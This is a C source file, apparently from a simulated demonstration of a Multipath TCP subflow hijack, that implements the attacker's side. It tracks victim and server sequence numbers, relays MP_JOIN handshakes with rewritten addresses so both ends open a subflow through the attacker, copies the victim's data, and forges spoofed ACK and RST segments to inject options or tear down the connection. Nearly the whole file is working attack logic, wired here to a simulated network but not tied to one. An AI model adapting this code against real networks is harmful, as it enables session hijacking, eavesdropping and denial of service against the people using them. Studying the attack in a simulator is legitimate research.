/*
 * attacker.c - what C does: forges segments, and forwards those of a subflow that both ends believe
 * to be between V and S.
 */
#include "hijack.h"

#include <string.h>

#define IP_HEADER 20u
#define TCP_HEADER 20u
#define TCP_FIN 0x01u
#define TCP_SYN 0x02u
#define TCP_RST 0x04u
#define TCP_ACK 0x10u
#define KIND_MPTCP 30u
#define MP_JOIN 1u

static uint32_t get32(const uint8_t *p)
{
    return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 | (uint32_t)p[2] << 8 | p[3];
}

static void put32(uint8_t *p, uint32_t v)
{
    for (int i = 3; i >= 0; i--) {
        *p++ = (uint8_t)(v >> 8 * i);
    }
}

static void put16(uint8_t *p, unsigned v)
{
    p[0] = (uint8_t)(v >> 8);
    p[1] = (uint8_t)v;
}

static void put_address(uint8_t *p, const char *text)
{
    ip4_addr_t a;
    ip4addr_aton(text, &a);
    memcpy(p, &a.addr, sizeof a.addr);
}

static void sends(const uint8_t *packet, size_t len)
{
    record(packet, len);
    world_inject(packet, len);
}

static bool is_address(const uint8_t *p, const char *address)
{
    uint8_t a[4];
    put_address(a, address);
    return memcmp(p, a, sizeof a) == 0;
}

static bool is_from(const uint8_t *packet, const char *address)
{
    return is_address(packet + 12, address);
}

static const uint8_t *payload_of(const uint8_t *packet, size_t len, uint32_t *n)
{
    const uint8_t *tcp = packet + IP_HEADER;
    size_t header = IP_HEADER + (size_t)(tcp[12] >> 4) * 4;
    *n = (uint32_t)(len - header);
    return packet + header;
}

void attacker_learns(struct attacker *c, const uint8_t *packet, size_t len)
{
    const uint8_t *tcp = packet + IP_HEADER;
    uint32_t n;

    if (is_address(packet + 16, ATTACKER)) {
        return;
    }
    payload_of(packet, len, &n);
    uint32_t next = get32(tcp + 4) + n + ((tcp[13] & (TCP_SYN | TCP_FIN)) != 0);
    if (is_from(packet, VICTIM)) {
        c->victim_port = (uint16_t)(tcp[0] << 8 | tcp[1]);
        c->victim_next = next;
    } else {
        c->server_next = next;
    }
}

/* True if the segment has an MP_JOIN of this length. */
static bool has_join(const uint8_t *tcp, unsigned length)
{
    unsigned end = (unsigned)(tcp[12] >> 4) * 4;
    for (unsigned i = TCP_HEADER; i + 2 < end && tcp[i] != 0;) {
        if (tcp[i] == KIND_MPTCP && tcp[i + 1] == length && tcp[i + 2] >> 4 == MP_JOIN) {
            return true;
        }
        i += tcp[i] == 1 || tcp[i + 1] < 2 ? 1u : tcp[i + 1];
    }
    return false;
}

/* Tells of the steps of the handshake that goes through C. */
static void notices(struct attacker *c, const uint8_t *tcp)
{
    if (has_join(tcp, 12) && (tcp[13] & TCP_SYN) != 0 && !c->asked) {
        c->asked = true;
        say("  2. V opens a subflow to %s: SYN with MP_JOIN, and the token of S in it", ATTACKER);
        say("  3. C puts his own address as the sender's, and sends it on to S");
    } else if (has_join(tcp, 16)) {
        say("  4. S answers %s: SYN/ACK with MP_JOIN, and a right HMAC", ATTACKER);
        say("  5. C sends it on to V, again from his own address");
    } else if (has_join(tcp, 24) && !c->joined) {
        c->joined = true;
        say("  6. V finds the HMAC right, and sends its own in the third ACK");
        say("  7. C sends it on: V and S both have a subflow to %s", ATTACKER);
    }
}

void attacker_forwards(struct attacker *c, const uint8_t *packet, size_t len)
{
    uint8_t copy[2048];
    uint32_t n;
    bool of_victim = is_from(packet, VICTIM);
    const uint8_t *payload = payload_of(packet, len, &n);

    if (len > sizeof copy) {
        return;
    }
    notices(c, packet + IP_HEADER);
    c->read[of_victim ? 0 : 1] += n;
    if (of_victim && n > 0) {
        size_t line = n < sizeof c->last - 1 ? n : sizeof c->last - 1;
        memcpy(c->last, payload, line);
        c->last[line] = '\0';
        c->last[strcspn(c->last, "\n")] = '\0';
    }
    memcpy(copy, packet, len);
    put_address(copy + 12, ATTACKER);
    put_address(copy + 16, of_victim ? SERVER : VICTIM);
    world_refit(copy, len);
    sends(copy, len);
}

/* Writes a segment without data of one end of the first subflow to p; returns its length. */
static size_t forge(const struct attacker *c, bool as_server, unsigned flags,
                    const uint8_t *options, size_t n, uint8_t *p)
{
    uint8_t *tcp = p + IP_HEADER;
    size_t padded = (n + 3) & ~(size_t)3;

    memset(p, 0, IP_HEADER + TCP_HEADER);
    p[0] = 0x45;
    p[8] = 64;
    p[9] = 6;
    put_address(p + 12, as_server ? SERVER : VICTIM);
    put_address(p + 16, as_server ? VICTIM : SERVER);
    put16(tcp, as_server ? SERVER_PORT : c->victim_port);
    put16(tcp + 2, as_server ? c->victim_port : SERVER_PORT);
    put32(tcp + 4, as_server ? c->server_next : c->victim_next);
    put32(tcp + 8, as_server ? c->victim_next : c->server_next);
    tcp[12] = (uint8_t)((TCP_HEADER + padded) / 4 << 4);
    tcp[13] = (uint8_t)flags;
    put16(tcp + 14, 4096);
    memset(tcp + TCP_HEADER, 1, padded);
    memcpy(tcp + TCP_HEADER, options, n);
    world_refit(p, IP_HEADER + TCP_HEADER + padded);
    return IP_HEADER + TCP_HEADER + padded;
}

void attacker_forges(const struct attacker *c, const uint8_t *options, size_t n)
{
    uint8_t p[IP_HEADER + TCP_HEADER + 40];
    size_t len = forge(c, true, TCP_ACK, options, n, p);
    sends(p, len);
}

void attacker_resets(const struct attacker *c)
{
    static const uint8_t none[1];
    uint8_t p[IP_HEADER + TCP_HEADER];

    for (int as_server = 0; as_server < 2; as_server++) {
        size_t len = forge(c, as_server != 0, TCP_RST | TCP_ACK, none, 0, p);
        sends(p, len);
    }
}
